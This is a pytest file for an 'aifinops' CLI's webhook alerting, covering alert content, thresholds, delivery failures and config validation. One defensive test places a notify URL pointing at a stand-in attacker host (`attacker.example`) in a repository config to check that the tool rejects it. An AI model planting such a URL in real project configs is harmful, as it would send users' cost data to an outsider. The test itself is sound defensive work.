"""`--notify` / config `notify:` through apprise, against a webhook receiver on loopback (apprise's
json:// posts {version, title, message, type} to it). The FOCUS export (tests/focus_export.py):
egress $16.00/month to save (medium), untagged AI spend $0.00 to save (low); the CUR with a spike
(tests/forecasting/test_anomaly_scan.py): two spend anomalies, each 4 x 110 + 4 x 100 = $840.00
above forecast (low)."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from aifinops_cli.core.alerts import AlertPolicy
from aifinops_cli.core.models import Confidence, Finding, Observation, Report, Severity
from aifinops_cli.demo.fakes.server import serving
from tests.conftest import run_cli
from tests.focus_export import write_focus
from tests.forecasting.test_anomaly_scan import write_cur

pytest.importorskip("apprise")


class Hook:
    """What the receiver got: one dict per POST (path, content type, JSON body)."""

    def __init__(self, status: int = 200) -> None:
        self.status = status
        self.posts: list[dict[str, Any]] = []
        self.lock = threading.Lock()


@pytest.fixture
def hook() -> Iterator[tuple[Hook, str]]:
    received = Hook()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            with received.lock:
                received.posts.append(
                    {"path": self.path, "type": self.headers.get("Content-Type"), "json": json.loads(body)}
                )
            self.send_response(received.status)
            self.send_header("Content-Length", "0")
            self.end_headers()

    with serving(Handler, "webhook") as url:
        yield received, "json://" + url.removeprefix("http://") + "/aifinops"


def _scan(runner, *args: str):
    return run_cli(runner, "-q", "scan", *args)


def test_new_findings_are_posted_with_headline_top_findings_and_report(runner, tmp_path, hook):
    received, url = hook
    export = write_focus(tmp_path / "focus.csv")
    out = tmp_path / "report.json"
    result = _scan(runner, "--billing", str(export), "-f", "json", "-o", str(out), "--notify", url)
    assert result.exit_code == 0 and result.stderr == ""
    (post,) = received.posts
    assert post["path"] == "/aifinops" and post["type"].startswith("application/json")
    doc = post["json"]
    assert doc["type"] == "warning"
    assert doc["title"] == "aifinops: 2 new findings, $16.00/month to save"
    lines = doc["message"].splitlines()
    # the headline: $16.00 + $0.00 = $16.00 a month, x 12 = $192.00 a year
    assert lines[0] == (
        "**$16.00 per month** of AI waste in this scan ($192.00 a year, 2 findings). "
        "New (not in the baseline, not suppressed): 2 new findings, $16.00/month to save."
    )
    assert lines[3] == (
        "- **$16.00/month to save**, medium: AI workload data crossing regions or leaving the cloud: "
        "`us-east-1->us-west-2 (inter-region)` (billing, us-east-1; owner ml-research)"
    )
    assert lines[-1] == f"Report: `{out}`"


def test_known_findings_never_alert(runner, tmp_path, hook):
    received, url = hook
    export = write_focus(tmp_path / "focus.csv")
    baseline = tmp_path / "b.json"
    run_cli(runner, "-q", "baseline", "create", "--billing", str(export), "-o", str(baseline))
    result = _scan(
        runner, "--billing", str(export), "--baseline", str(baseline), "-f", "json", "--notify", url
    )
    assert result.exit_code == 0
    assert received.posts == []


@pytest.mark.parametrize(
    ("flags", "title"),
    [
        (["--notify-min-usd", "10"], "aifinops: 1 new finding, $16.00/month to save"),  # $0.00 < $10
        (["--notify-min-severity", "medium"], "aifinops: 1 new finding, $16.00/month to save"),
        (["--notify-min-severity", "high"], None),  # nothing at high: no message at all
        (["--notify-min-usd", "16.01"], None),
    ],
)
def test_minimum_severity_and_amount(runner, tmp_path, hook, flags, title):
    received, url = hook
    export = write_focus(tmp_path / "focus.csv")
    _scan(runner, "--billing", str(export), "-f", "json", "--notify", url, *flags)
    assert [p["json"]["title"] for p in received.posts] == ([title] if title else [])


def test_config_notify_section(runner, tmp_path, hook):
    received, url = hook
    export = write_focus(tmp_path / "focus.csv")
    cfg = tmp_path / "conf.yaml"
    cfg.write_text(f"notify:\n  urls: [{url}]\n  min_severity: medium\n")
    result = run_cli(runner, "-q", "--config", str(cfg), "scan", "--billing", str(export), "-f", "json")
    assert result.exit_code == 0
    assert [p["json"]["title"] for p in received.posts] == ["aifinops: 1 new finding, $16.00/month to save"]


def test_spend_anomalies_are_alerted_as_such(runner, tmp_path, hook):
    received, url = hook
    cur = write_cur(tmp_path / "cur.csv", spike=(80, 82))
    _scan(runner, "--scanner", "billing", "--billing", str(cur), "-f", "json", "--notify", url)
    (post,) = received.posts
    assert post["json"]["title"] == "aifinops: 2 spend anomalies"  # money spent, not savings
    message = post["json"]["message"]
    assert "**Spend anomalies**" in message
    assert "- **$840.00 above forecast**, low: Spend above its forecast: `owner:ml:2025-04-05`" in message


def test_a_failed_delivery_is_one_warning_and_the_exit_code_stands(runner, tmp_path, hook):
    received, url = hook
    received.status = 500
    export = write_focus(tmp_path / "focus.csv")
    out = tmp_path / "r.json"
    result = _scan(runner, "--billing", str(export), "-o", str(out), "-f", "json", "--notify", url)
    assert result.exit_code == 0 and out.exists()
    host = url.removeprefix("json://").split("/")[0]
    assert result.stderr == (
        f"aifinops: warning: notification to json://{host}/… failed (the reports were written)\n"
    )


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--notify", "nope://token@example"], "--notify nope://example/…: not a notification URL apprise"),
        (["--notify-min-severity", "loud", "--notify", "json://127.0.0.1/"], "loud"),
    ],
)
def test_bad_notify_flags_are_exit_2_before_scanning(runner, tmp_path, args, says):
    export = write_focus(tmp_path / "focus.csv")
    result = _scan(runner, "--billing", str(export), *args)
    assert result.exit_code == 2 and says in result.output
    assert "token" not in result.output  # a URL's secret is never printed


@pytest.mark.parametrize(
    ("yaml_text", "says"),
    [
        (
            "notify:\n  url: json://x\n",
            "conf.yaml:2: notify.url: unknown setting (known: urls, min_severity, min_usd)",
        ),
        ("notify:\n  min_usd: -1\n", "notify.min_usd: expected a number of USD per month"),
        ("notify:\n  min_severity: loud\n", "notify.min_severity: expected one of info, low, medium"),
    ],
)
def test_bad_notify_config_is_exit_2(runner, tmp_path, yaml_text, says):
    cfg = tmp_path / "conf.yaml"
    cfg.write_text(yaml_text)
    result = run_cli(runner, "--config", str(cfg), "scan", "--billing", str(write_focus(tmp_path / "f.csv")))
    assert result.exit_code == 2 and says in result.stderr, result.stderr


def test_a_project_config_may_not_send_alerts(runner, tmp_path, monkeypatch):
    """./aifinops.yaml may come from someone else's repository: it must not mail your costs away."""
    monkeypatch.chdir(tmp_path)
    Path("aifinops.yaml").write_text("notify:\n  urls: [json://attacker.example/]\n")
    result = run_cli(runner, "scan", "--billing", str(write_focus(tmp_path / "f.csv")))
    assert result.exit_code == 2 and "not allowed in ./aifinops.yaml" in result.stderr


def _finding(kind: str, category: str, status: str, savings: float, cost: float, **kw: Any) -> Finding:
    obs = Observation(provider="llm", kind=kind, id=f"{kind}-{status}-{savings}")
    return Finding(
        rule_id="r", title="t", category=category, severity=kw.get("severity", Severity.HIGH),
        confidence=Confidence.HIGH, observation=obs, monthly_cost_usd=cost,
        estimated_monthly_savings_usd=savings, recommendation="", evidence={}, status=status,
        suppressed=kw.get("suppressed", False),
    )  # fmt: skip


def test_policy_selects_news_by_its_money():
    """A breach or an anomaly is judged by the money it is about (its cost), waste by savings."""
    budget = _finding("llm.budget", "budget", "new", 0.0, 120.0)  # $120 over budget
    anomaly = _finding("billing.spend_anomaly", "anomaly", "new", 0.0, 300.0)
    waste = _finding("llm.session", "agent-overhead", "new", 50.0, 80.0)
    known = _finding("llm.session", "agent-overhead", "known", 500.0, 800.0)
    held = _finding("llm.session", "agent-overhead", "new", 500.0, 800.0, suppressed=True)
    report = Report("t", "", "", [], [budget, anomaly, waste, known, held], [])
    assert AlertPolicy(("json://x",), min_usd=100).news(report) == [budget, anomaly]
    assert AlertPolicy(("json://x",)).news(report) == [budget, anomaly, waste]
    assert AlertPolicy(("json://x",), Severity.CRITICAL).news(report) == []
